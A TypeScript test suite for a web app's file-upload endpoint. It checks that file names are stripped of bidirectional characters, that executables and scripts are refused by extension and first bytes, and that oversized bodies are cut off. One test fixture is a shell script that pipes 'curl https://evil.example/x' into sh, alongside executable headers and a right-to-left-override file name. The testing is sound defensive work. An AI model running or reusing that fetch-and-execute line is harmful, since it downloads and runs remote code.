import { loadRegistry } from '@club/schema/node';
import { libraryFiles } from '@club/schema/resources/libraryFiles';
import { randomBytes } from 'node:crypto';
import type { Server } from 'node:http';
import { connect, type Socket } from 'node:net';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PDF, PHOTO, uploadTo } from '../support/file-scenarios';
import { startTestApp, type TestApp } from '../support/test-app';

// Uploads (issue 44, L4 and L6): every stored file name is stripped of control and bidirectional
// characters; every file field declares the types it takes, and programs or scripts are refused
// in all of them, by their name and by their first bytes; an upload is streamed, its size counted
// and its type judged while it is read, so a refused body is cut off rather than read whole.
let app: TestApp;

beforeAll(async () => {
  app = await startTestApp();
});
afterAll(() => app?.stop());

/** Every file the local store holds, the half-written ones (`.partial`) included. */
const storedFiles = async (): Promise<string[]> => {
  const found: string[] = [];
  const walk = async (folder: string) => {
    for (const entry of await readdir(folder, { withFileTypes: true }).catch(() => [])) {
      if (entry.isDirectory()) await walk(join(folder, entry.name));
      else found.push(entry.name);
    }
  };
  await walk(app.filesDirectory);
  return found.sort();
};

const MZ = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(248)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(248)]);
const MACH_O = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(248)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
const GZIP = Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03]), randomBytes(64)]);

describe('file names', () => {
  it('are stored without control or bidirectional characters, and downloaded so', async () => {
    const upload = await uploadTo(app.http, 'internalBulletins', 'attachments', PDF, 'Re\u202Eport\u2066 2026\u2069\u200F\u200E\u061C\u0085\u009B\u2028\uFEFF.pdf').expect(201);
    expect(upload.body.name).toBe('Report 2026.pdf');
    const { rows } = await app.pool.query('SELECT "name" FROM "stored_files" WHERE "id" = $1', [upload.body.id]);
    expect(rows[0].name).toBe('Report 2026.pdf');
    const download = await app.http.get(`/api/files/${upload.body.id}`).expect(200);
    expect(download.headers['content-disposition']).toBe(`attachment; filename="Report 2026.pdf"; filename*=UTF-8''Report%202026.pdf`);
  });

  it('cannot hide a program behind a right-to-left override: invoice\\u202Egpj.exe is a program, refused', async () => {
    const before = await storedFiles();
    const refused = await uploadTo(app.http, 'internalBulletins', 'attachments', PDF, 'invoice\u202Egpj.exe').expect(400);
    expect(refused.body.errors.file).toBe("Programs and scripts are never accepted: 'invoicegpj.exe' cannot be uploaded to 'attachments'");
    expect(refused.body.message).toBe(refused.body.errors.file);
    const arabic = await uploadTo(app.http, 'internalBulletins', 'attachments', PDF, 'invoice\u202Egpj.exe').set('Accept-Language', 'ar').expect(400);
    expect(arabic.body.errors.file).toMatch(/[\u0600-\u06FF].*'attachments'/);
    expect(await storedFiles()).toEqual(before);
  });
});

describe('programs and scripts', () => {
  it('are refused by their extension in every file field, whatever their content', async () => {
    const before = await storedFiles();
    for (const extension of ['exe', 'bat', 'cmd', 'com', 'msi', 'scr', 'js', 'vbs', 'ps1', 'sh', 'jar', 'apk', 'dll', 'hta', 'EXE', 'exe. . ']) {
      const refused = await uploadTo(app.http, 'courtCases', 'documents', PDF, `scan.${extension}`);
      expect(refused.status, `.${extension}`).toBe(400);
      expect(refused.body.errors.file).toMatch(/^Programs and scripts are never accepted: 'scan\.(exe|bat|cmd|com|msi|scr|js|vbs|ps1|sh|jar|apk|dll|hta|EXE)' cannot be uploaded to 'documents'$/);
    }
    expect(await storedFiles()).toEqual(before);
  });

  it('are refused by their first bytes under any name, the files library included', async () => {
    const before = await storedFiles();
    const samples: [Buffer, string][] = [
      [MZ, 'minutes.pdf'],
      [ELF, 'photo.png'],
      [MACH_O, 'budget.xlsx'],
      [SCRIPT, 'notes.txt'],
    ];
    for (const [bytes, name] of samples) {
      const refused = await uploadTo(app.http, 'libraryFiles', 'file', bytes, name);
      expect(refused.status, name).toBe(400);
      expect(refused.body.errors.file).toBe(`Programs and scripts are never accepted: '${name}' cannot be uploaded to 'file'`);
    }
    expect(await storedFiles()).toEqual(before);
  });

  it('are kept out of the declared types: every writable file field lists what it takes, the library documents, images, spreadsheets, presentations, text and zip archives', async () => {
    const registry = await loadRegistry();
    for (const resource of registry.resources) {
      for (const [name, field] of Object.entries(resource.fields)) {
        if ((field.kind === 'file' || field.kind === 'files') && !field.readOnly && !resource.readOnly) expect(field.types, `${resource.name}.${name}`).toBeDefined();
      }
    }
    const types = libraryFiles.fields.file.types ?? [];
    for (const type of ['application/pdf', 'image/*', 'text/plain', 'application/zip', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'application/vnd.openxmlformats-officedocument.presentationml.presentation']) {
      expect(types).toContain(type);
    }
    expect(types.some((type) => /msdownload|x-elf|mach|executable|java-archive|android|\*\/\*|^application\/\*$/.test(type))).toBe(false);
    // The library takes what it lists and refuses the rest, naming the field.
    await uploadTo(app.http, 'libraryFiles', 'file', PDF, 'policy.pdf').expect(201);
    await uploadTo(app.http, 'libraryFiles', 'file', PHOTO, 'pitch.png').expect(201);
    await uploadTo(app.http, 'libraryFiles', 'file', Buffer.from('name,goals\nSalem,3\n'), 'scorers.csv').expect(201);
    const gzip = await uploadTo(app.http, 'libraryFiles', 'file', GZIP, 'backup.gz').expect(400);
    expect(gzip.body.errors.file).toMatch(/^The file's content is not of a type 'file' takes \(/);
  });
});

interface StreamedUpload {
  status?: number;
  body?: { message?: string; errors?: Record<string, string> };
  /** Bytes of the file the client managed to send. */
  sent: number;
  /** Bytes the server read of the request, headers included, when its connection closed. */
  serverRead: number;
}

/** The status and JSON body of a raw HTTP answer (plain or chunked). */
const answerOf = (raw: Buffer): Pick<StreamedUpload, 'status' | 'body'> => {
  const text = raw.toString('utf8');
  const split = text.indexOf('\r\n\r\n');
  if (split < 0) return {};
  const head = text.slice(0, split);
  let body = text.slice(split + 4);
  const length = /^content-length: *(\d+)/im.exec(head)?.[1];
  if (length !== undefined && Buffer.byteLength(body) < Number(length)) return {};
  if (length === undefined && !body.endsWith('0\r\n\r\n')) return {};
  if (/^transfer-encoding: *chunked/im.test(head)) {
    let plain = '';
    for (let at = 0; ; ) {
      const line = body.indexOf('\r\n', at);
      const size = parseInt(body.slice(at, line), 16);
      if (!size) break;
      plain += body.slice(line + 2, line + 2 + size);
      at = line + 2 + size + 2;
    }
    body = plain;
  }
  return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1]), body: JSON.parse(body || '{}') };
};

/**
 * A multipart upload of `total` bytes (starting with `head`, then zeros) written on a raw
 * keep-alive connection as fast as it takes them, whatever the server answers meanwhile: a
 * careless client.
 * Ends when the server's side of the connection has closed, with what the server read by then.
 */
const streamUpload = (resource: string, field: string, filename: string, head: Buffer, total: number): Promise<StreamedUpload> =>
  new Promise((resolve, reject) => {
    const server = app.app.getHttpServer() as Server;
    const boundary = `club-upload-${randomBytes(8).toString('hex')}`;
    const preamble = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`);
    const epilogue = Buffer.from(`\r\n--${boundary}--\r\n`);
    const { hostname, port } = new URL(app.url);
    const headers = [
      `POST /api/files?resource=${resource}&field=${field} HTTP/1.1`,
      `Host: ${hostname}:${port}`,
      `Authorization: Bearer ${app.token}`,
      `Content-Type: multipart/form-data; boundary=${boundary}`,
      `Content-Length: ${preamble.length + total + epilogue.length}`,
    ];
    const outcome: StreamedUpload = { sent: 0, serverRead: 0 };
    const answer: Buffer[] = [];
    let serverSocket: Socket | undefined;
    let serverClosed = false;
    let clientClosed = false;
    const finish = () => {
      if (!serverClosed || !clientClosed) return;
      server.off('connection', onConnection);
      Object.assign(outcome, answerOf(Buffer.concat(answer)), { serverRead: serverSocket!.bytesRead });
      resolve(outcome);
    };
    const client = connect(Number(port), hostname);
    // This test's connection is the server's socket whose remote port is the client's own port,
    // whichever of the two sides learns of the connection first.
    const seen: Socket[] = [];
    const claim = () => {
      if (serverSocket || client.localPort === undefined) return;
      serverSocket = seen.find((socket) => socket.remotePort === client.localPort);
      serverSocket?.once('close', () => {
        serverClosed = true;
        finish();
      });
    };
    const onConnection = (socket: Socket) => {
      seen.push(socket);
      claim();
    };
    client.once('connect', claim);
    server.on('connection', onConnection);
    let written = false;
    // Keep-alive: the client hangs up itself once it has sent everything and has the whole answer.
    const hangUpWhenDone = () => {
      if (written && answerOf(Buffer.concat(answer)).status !== undefined) client.end();
    };
    client.on('data', (chunk: Buffer) => {
      answer.push(chunk);
      hangUpWhenDone();
    });
    client.on('error', () => undefined);
    client.on('close', () => {
      clientClosed = true;
      if (!serverSocket) {
        server.off('connection', onConnection);
        reject(new Error('The server never saw the connection'));
        return;
      }
      finish();
    });
    const write = (chunk: Buffer) =>
      new Promise<boolean>((done) => {
        if (client.destroyed || !client.writable) return done(false);
        if (client.write(chunk)) return done(true);
        const settle = () => {
          client.off('drain', settle);
          client.off('close', settle);
          done(!client.destroyed);
        };
        client.once('drain', settle);
        client.once('close', settle);
      });
    client.once('connect', () =>
      void (async () => {
        if (!(await write(Buffer.from(`${headers.join('\r\n')}\r\n\r\n`)))) return;
        if (!(await write(preamble))) return;
        const filler = Buffer.alloc(64 * 1024);
        while (outcome.sent < total) {
          const chunk = outcome.sent < head.length ? head.subarray(outcome.sent) : filler.subarray(0, Math.min(filler.length, total - outcome.sent));
          if (!(await write(chunk))) return;
          outcome.sent += chunk.length;
        }
        if (await write(epilogue)) {
          written = true;
          hangUpWhenDone();
        }
      })(),
    );
  });

const MiB = 1024 * 1024;

describe('streamed uploads', () => {
  it('refuse a body over the field\'s limit with 413 as soon as the limit is passed, cut it off, and keep nothing of it', async () => {
    const before = await storedFiles();
    // A 2 MB photo field, and 32 MB sent: the server stops reading soon after 2 MB.
    const upload = await streamUpload('users', 'photo', 'huge.png', PHOTO, 32 * MiB);
    expect(upload.status).toBe(413);
    expect(upload.body?.errors?.file).toBe('The file is larger than this field takes (2 MB)');
    expect(upload.serverRead).toBeLessThan(4 * MiB);
    expect(upload.sent).toBeLessThan(32 * MiB);
    expect(await storedFiles()).toEqual(before);
  });

  it('judge the type from the first bytes: a program is refused before the rest of its body is read, and nothing is stored', async () => {
    const before = await storedFiles();
    // 19 MB under the library's 20 MB: read whole, it would be read to the end before the verdict.
    const upload = await streamUpload('libraryFiles', 'file', 'tool.pdf', MZ, 19 * MiB);
    expect(upload.status).toBe(400);
    expect(upload.body?.errors?.file).toBe("Programs and scripts are never accepted: 'tool.pdf' cannot be uploaded to 'file'");
    expect(upload.serverRead).toBeLessThan(4 * MiB);
    expect(await storedFiles()).toEqual(before);
  });
});
